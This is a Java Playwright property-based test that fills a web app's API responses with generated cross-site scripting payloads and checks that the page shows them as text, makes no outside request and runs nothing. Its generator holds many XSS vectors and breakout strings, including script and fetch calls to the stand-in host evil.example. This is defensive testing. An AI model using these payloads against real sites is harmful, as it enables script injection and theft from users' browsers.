package dev.musher.server.web;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import dev.musher.base.json.Json;
import dev.musher.base.json.JsonObjectBuilder;
import dev.musher.base.json.JsonValue;
import dev.musher.base.property.Combinators;
import dev.musher.base.property.ForAll;
import dev.musher.base.property.Generator;
import dev.musher.base.property.Generators;
import dev.musher.base.property.Property;
import dev.musher.base.property.Provide;
import dev.musher.host.access.AccessRole;
import dev.musher.server.http.ServerFixture;
import dev.musher.server.http.WorkedStories;
import java.io.IOException;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Whatever stories, agents, files and gates say is text. Every text of every answer is an attack
 * here, and none runs, loads anything or leaves the page.
 */
@Tag("slow")
@Timeout(600)
class HostilePageTextTest {
    /** What the page computes with, and no person or agent writes. */
    private static final Set<String> OURS =
            Set.of(
                    "at",
                    "since",
                    "started",
                    "ended",
                    "createdAt",
                    "changed",
                    "until",
                    "type",
                    "column",
                    "kind",
                    "badge",
                    "id",
                    "session",
                    "role",
                    "outlookKind",
                    "waitReason",
                    "runtime",
                    "pausedAt",
                    "limitedUntil",
                    "day",
                    "key");

    /** Texts that each page has to show, by the names of their fields. */
    private static final Map<String, List<String>> SHOWN =
            Map.of(
                    "#/", List.of("name"),
                    "#/item/1",
                            List.of(
                                    "name",
                                    "text",
                                    "branch",
                                    "command",
                                    "tail",
                                    "what",
                                    "how",
                                    "agent",
                                    "actor",
                                    "createdBy",
                                    "path",
                                    "line",
                                    "said"),
                    "#/train", List.of("why", "needs", "what", "step", "notes"),
                    "#/sessions", List.of("firstWords"),
                    "#/sessions/find:x", List.of("snippet", "author"),
                    "#/sessions/s1", List.of("firstWords"),
                    "#/settings", List.of("value", "origin", "description"));

    @TempDir private static Path folder;
    private static ServerFixture server;
    private static TestBrowser browser;
    private static Page page;
    private static volatile String attack = "";

    @BeforeAll
    static void open() throws IOException {
        server = new ServerFixture(folder);
        var stories = new WorkedStories(server);
        var item = stories.started("Greet");
        var ticket = stories.attempt(item, "ada");
        stories.gated(item, ticket, WorkedStories.step("test", 1, 1));
        server.client.send(
                "POST",
                "/api/items/1/criterion-add",
                "{\"text\": \"says Ahoj\"}",
                server.token(AccessRole.OPERATOR),
                "Content-Type: application/json");
        browser = new TestBrowser();
        page = browser.page(TestBrowser.desktop());
        page.onDialog(dialog -> browser.report("a dialog: " + dialog.message()));
        page.onPopup(popup -> browser.report("a window: " + popup.url()));
        String own = "http://127.0.0.1:" + server.port() + "/";
        page.onRequest(
                request -> {
                    if (!request.url().startsWith(own)) {
                        browser.report("a request: " + request.url());
                    }
                });
        page.route(
                url -> url.contains("/api/") && !url.endsWith("/live") && !url.endsWith("/login"),
                HostilePageTextTest::attacked);
        TestBrowser.login(page, server);
    }

    @AfterAll
    static void close() {
        if (browser != null) {
            browser.close();
        }
        server.close();
    }

    /** The real answer with an attack in each of its texts. */
    private static void attacked(Route route) {
        String path =
                route.request().url().replaceFirst("[^/]*//[^/]*", "").replaceFirst("\\?.*", "");
        var real = route.fetch();
        if (real.status() == 401) {
            // It has what the page has to prove its key with.
            route.fulfill(new Route.FulfillOptions().setResponse(real));
            return;
        }
        JsonValue answer =
                switch (path) {
                    case "/api/items/1/diff" -> diff();
                    case "/api/items/1/attempts/1" -> log();
                    case "/api/sessions/search" -> hits();
                    case "/api/train" -> train();
                    default -> poisoned("", Json.parse(real.text()));
                };
        route.fulfill(
                new Route.FulfillOptions()
                        .setContentType("application/json")
                        .setBody(Json.encode(answer)));
    }

    private static String text(String field) {
        return field + "«" + attack + "»";
    }

    private static JsonValue diff() {
        String file = text("path");
        return new JsonObjectBuilder()
                .text(
                        "patch",
                        "diff --git a/%1$s b/%1$s\n--- a/%1$s\n+++ b/%1$s\n@@ -0,0 +1 @@ %1$s\n+%2$s\n"
                                .formatted(file, text("line")))
                .build();
    }

    private static JsonValue log() {
        var line =
                new JsonObjectBuilder()
                        .text("kind", "said")
                        .text("at", "10:00")
                        .text("text", text("said"));
        return new JsonObjectBuilder()
                .number("item", 1)
                .number("attempt", 1)
                .number("last", 1)
                .objects("lines", List.of(line), one -> one)
                .build();
    }

    private static JsonValue hits() {
        var hit =
                new JsonObjectBuilder()
                        .text("session", "s1")
                        .number("line", 1)
                        .text("author", text("author"))
                        .text("at", "2026-03-01T09:00:00Z")
                        .text("snippet", text("snippet"))
                        .build();
        return new JsonValue.Items(List.of(hit));
    }

    private static JsonValue train() {
        var waiting =
                new JsonObjectBuilder()
                        .number("place", 1)
                        .number("item", 1)
                        .text("why", text("why"))
                        .text("needs", text("needs"));
        var build =
                new JsonObjectBuilder()
                        .text("what", text("what"))
                        .value("items", new JsonValue.Items(List.of()))
                        .text("step", text("step"))
                        .text("since", "2026-03-01T09:00:00Z");
        return new JsonObjectBuilder()
                .objects("queue", List.of(waiting), one -> one)
                .objects("builds", List.of(build), one -> one)
                .texts("landed", List.of())
                .texts("flakes", List.of())
                .texts("notes", List.of(text("notes")))
                .build();
    }

    private static JsonValue poisoned(String field, JsonValue value) {
        return switch (value) {
            case JsonValue.Text _ when !OURS.contains(field) -> new JsonValue.Text(text(field));
            case JsonValue.Fields(var fields) -> {
                var changed = new LinkedHashMap<String, JsonValue>();
                fields.forEach((name, one) -> changed.put(name, poisoned(name, one)));
                yield new JsonValue.Fields(changed);
            }
            case JsonValue.Items(var items) ->
                    new JsonValue.Items(items.stream().map(one -> poisoned(field, one)).toList());
            case JsonValue.Text _, JsonValue.Numeral _, JsonValue.Flag _, JsonValue.Null _ -> value;
        };
    }

    @Property(tries = 6)
    void runsNowhereAndIsShownAsWritten(@ForAll("attacks") String generated) {
        attack = generated;
        for (var shown : SHOWN.entrySet()) {
            page.navigate("about:blank");
            page.navigate("http://127.0.0.1:%d/%s".formatted(server.port(), shown.getKey()));
            for (String field : shown.getValue()) {
                assertThat(page.locator("body")).containsText(text(field));
            }
            assertThat(page.evaluate("window.ran")).isNull();
            assertThat(
                            page.locator(
                                    "main :is(img, script, iframe, object, embed, style, link, meta, base, video,"
                                            + " form[action], a[href^='javascript:'], a[href^='data:'],"
                                            + " [onerror], [onload], [style])"))
                    .hasCount(0);
        }
        assertThat(browser.problems()).isEmpty();
    }

    @Provide
    Generator<String> attacks() {
        var breakout =
                Generators.of(
                        "",
                        "",
                        "\">",
                        "'>",
                        "-->",
                        "]]>",
                        "`",
                        "</textarea>",
                        "</script>",
                        "</title>",
                        "</pre></code>",
                        "</svg>",
                        "&quot;>",
                        "\\\">",
                        "*/",
                        "\u2028");
        var vector =
                Generators.of(
                        "<img src=x onerror=RUN>",
                        "<svg onload=RUN>",
                        "<svg><script>RUN</script></svg>",
                        "<script>RUN</script>",
                        "<script src=//evil.example/x.js></script>",
                        "<iframe srcdoc=\"<script>RUN</script>\"></iframe>",
                        "<iframe src=javascript:RUN></iframe>",
                        "<a href=javascript:RUN>x</a>",
                        "<a href=\" &#106;avascript:RUN\" autofocus onfocus=RUN>x</a>",
                        "<details open ontoggle=RUN>",
                        "<input autofocus onfocus=RUN>",
                        "<style>@import url(//evil.example/x)</style>",
                        "<div style=\"background:url(//evil.example/x)\">",
                        "<link rel=stylesheet href=//evil.example/x>",
                        "<meta http-equiv=refresh content=0;url=//evil.example>",
                        "<base href=//evil.example/>",
                        "<form action=//evil.example><button>x</button></form>",
                        "<img src=//evil.example/x>",
                        "<video src=//evil.example/x></video>",
                        "<object data=//evil.example/x></object>",
                        "<table background=//evil.example/x><td>",
                        "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
                        "![x](http://evil.example/x.png)",
                        "[x](javascript:RUN)",
                        "[x](data:text/html,<script>RUN</script>)",
                        "<javascript:RUN>",
                        "[x]: javascript:RUN",
                        "${RUN}",
                        "{{RUN}}",
                        "<!--lit-part RUN-->",
                        "<?lit$RUN$>",
                        "<musher-app onclick=RUN>",
                        "<template shadowrootmode=open><script>RUN</script></template>");
        var code = Generators.of("top.ran=1", "alert(1)", "fetch('//evil.example/x')");
        var one =
                Combinators.combine(breakout, vector, code, Generators.integers().between(0, 9))
                        .as((a, b, c, how) -> a + cased(b, how).replace("RUN", c));
        return one.list().ofMinSize(1).ofMaxSize(10).map(all -> String.join(" ", all));
    }

    /** Names of tags and attributes count in capitals as well. */
    private static String cased(String vector, int how) {
        return how == 0
                ? vector.toUpperCase(Locale.ROOT)
                : how == 1 ? vector.replaceFirst(" ", "/") : vector;
    }
}
